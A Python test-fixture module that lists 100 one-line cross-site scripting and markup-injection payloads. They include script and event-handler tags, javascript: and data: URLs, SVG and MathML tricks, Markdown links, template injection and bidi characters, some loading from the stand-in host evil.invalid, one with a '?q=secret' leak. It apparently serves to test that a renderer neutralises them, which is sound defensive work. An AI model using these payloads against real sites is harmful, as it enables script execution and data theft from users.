"""A hundred strings that would run a script, fetch from another host, or change how a page looks.

`hit(n)` is what each of them tries to call, or `evil.invalid/n` whom it tries to tell; a page that
shows them as text does neither. One line each, so that they can stand in any field.
"""

from __future__ import annotations

_HIT = """
<script>hit(№)</script>
<ScRiPt >hit(№)</sCrIpT >
"><script>hit(№)</script>
'><script>hit(№)</script>
</title><script>hit(№)</script>
</textarea><script>hit(№)</script>
</style><script>hit(№)</script>
--><script>hit(№)</script>
]]><script>hit(№)</script>
</script><script>hit(№)</script>
<script/x>hit(№)</script>
<script src=//evil.invalid/№></script>
<script src="data:text/javascript,hit(№)"></script>
<script type=module>import "//evil.invalid/№"</script>
<<script>hit(№)//<</script>
<scr<script>ipt>hit(№)</scr</script>ipt>
<img src=x onerror=hit(№)>
"><img src=x onerror=hit(№)>
' onerror='hit(№)' src='x
<img src=x onerror="hit(№)" alt="
<img/src/onerror=hit(№)>
<img src=x:x onerror&#61;hit(№)>
<IMG SRC=x OnErRoR=hit(№)//
<img src="//evil.invalid/№">
<img srcset="//evil.invalid/№ 1x">
<image href=x onerror=hit(№)>
<svg onload=hit(№)>
<svg/onload=hit(№)>
<svg><script>hit(№)</script></svg>
<svg><script href="data:text/javascript,hit(№)" />
<svg><animate onbegin=hit(№) attributeName=x dur=1s>
<svg><a xlink:href="javascript:hit(№)"><text y=20>x</text></a></svg>
<svg><use href="//evil.invalid/№#x"/></svg>
<svg><foreignObject><body onload=hit(№)></foreignObject></svg>
<svg><style>@import "//evil.invalid/№";</style></svg>
<math><mtext><script>hit(№)</script></mtext></math>
<math href="javascript:hit(№)">x</math>
<math><mi xlink:href="data:text/html,<script>hit(№)</script>">x</mi></math>
<body onload=hit(№)>
<body onpageshow=hit(№)>
<details open ontoggle=hit(№)><summary>x</summary></details>
<video src=x onerror=hit(№)></video>
<video><source onerror=hit(№)></video>
<audio src=x onerror=hit(№)>
<input autofocus onfocus=hit(№)>
<select autofocus onfocus=hit(№)>
<textarea autofocus onfocus=hit(№)>
<button autofocus onfocus=hit(№)>x</button>
<a href=# autofocus tabindex=0 onfocus=hit(№)>x</a>
<div onpointerenter=hit(№) style="position:fixed;inset:0">x</div>
<marquee onstart=hit(№)>x</marquee>
<iframe src="javascript:hit(№)"></iframe>
<iframe srcdoc="<script>parent.hit(№)</script>"></iframe>
<iframe src=//evil.invalid/№></iframe>
<object data="javascript:hit(№)"></object>
<object data=//evil.invalid/№></object>
<embed src="javascript:hit(№)">
<frameset onload=hit(№)>
<form action="javascript:hit(№)"><button autofocus>x</button></form>
<button formaction="javascript:hit(№)">x</button>
<base href="//evil.invalid/№/">
<meta http-equiv=refresh content="0;url=javascript:hit(№)">
<meta http-equiv=refresh content="0;url=//evil.invalid/№">
<link rel=stylesheet href=//evil.invalid/№>
<link rel=prefetch href=//evil.invalid/№>
<style>*{background:url(//evil.invalid/№)}</style>
<p style="background:url(//evil.invalid/№)">x</p>
<p style="position:fixed;inset:0;background:red">hit(№)</p>
<template shadowrootmode=open><script>hit(№)</script></template>
<noscript><p title="</noscript><img src=x onerror=hit(№)>">
<p is=gl-app onclick=hit(№)>x</p>
<gl-text onclick=hit(№)></gl-text>
<x onclick=hit(№) style=display:block>x</x>
<a href="javascript:hit(№)">x</a>
<a href=" &#14; javascript:hit(№)">x</a>
<a href="jav&#x09;ascript:hit(№)">x</a>
<a href="JaVaScRiPt:hit(№)">x</a>
<a href="data:text/html,<script>hit(№)</script>">x</a>
<a href="vbscript:hit(№)">x</a>
<a href=//evil.invalid/№ ping=//evil.invalid/№>x</a>
[x](javascript:hit(№))
[x](  jAvAsCrIpT:hit(№))
[x](javascript&colon;hit(№))
[x](data:text/html;base64,PHNjcmlwdD5oaXQoQCk8L3NjcmlwdD4=)
[x](<javascript:hit(№)> "title")
![x](//evil.invalid/№)
![x](https://evil.invalid/№?q=secret)
![x](javascript:hit(№))
![x" onerror="hit(№)](x)
[![x](https://evil.invalid/№)](javascript:hit(№))
<javascript:hit(№)>
`</code><script>hit(№)</script>`
$\\href{javascript:hit(№)}{x}$
$\\htmlData{x=1}{\\includegraphics{https://evil.invalid/№}}$
$\\def\\a{\\a\\a}\\a$ <script>hit(№)</script>
{{constructor.constructor('hit(№)')()}}
${hit(№)}
javascript:hit(№)//'/"/`/--></title></style></textarea><svg onload=hit(№)>
\u202e<script>hit(№)</script>\u202c
\u2066\u202ehit(№)<img src=x onerror=hit(№)>
"""

PAYLOADS = tuple(line.replace("№", str(n)) for n, line in enumerate(_HIT.strip().splitlines(), 1))
# What CI tries: one of each kind.
A_DOZEN = tuple(PAYLOADS[n] for n in (0, 12, 16, 23, 26, 33, 51, 66, 72, 80, 87, 98))
assert len(set(PAYLOADS)) == 100, len(PAYLOADS)
